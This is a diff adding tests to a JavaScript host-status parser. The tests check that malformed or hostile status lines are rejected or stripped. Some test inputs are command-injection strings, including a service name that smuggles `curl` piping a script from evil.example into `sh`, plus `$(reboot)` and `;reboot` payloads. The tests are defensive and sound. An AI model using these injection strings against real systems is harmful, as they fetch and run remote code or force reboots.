@@ -565,3 +565,27 @@ test.each([
   [86_400, "24 h"],
   [12.2 * 86_400, "12 days"],
 ])("%d seconds are %s", (seconds, text) => expect(renderDuration(seconds)).toBe(text));
+
+test.each([
+  "failed homerelay-x';curl$IFS'evil.example'|sh;'.service",
+  "failed $(reboot).service",
+  "failed -H.service",
+  "traffic 2026-11 1e20 1 1",
+  "traffic 2026-11 soon 1 1",
+  "traffic never 1 1 1",
+  "up never",
+  "up -1",
+  "tracked 1e400 1",
+  "count connections_tcp 443 many 0",
+])("of a host that says `%s` nothing is believed, and nothing of it is shown", (line) => {
+  expect(() => parseHostStatus(`status 1\nnow ${now}\n${line}\nend\n`)).toThrow(
+    "it has something that no version of its script prints",
+  );
+});
+
+test("what a host names as its reason to restart, or as a peer's address, is no sentence", () => {
+  const { restartFor, peers } = parseHostStatus(
+    `status 1\nnow ${now}\nup 1\nrestart libc6 ;reboot linux-image\ndisk - -\npeer nas= ;reboot ${now} 1 1\nend\n`,
+  );
+  expect([restartFor, peers[0]?.endpoint]).toEqual([["libc6", "linux-image"], undefined]);
+});
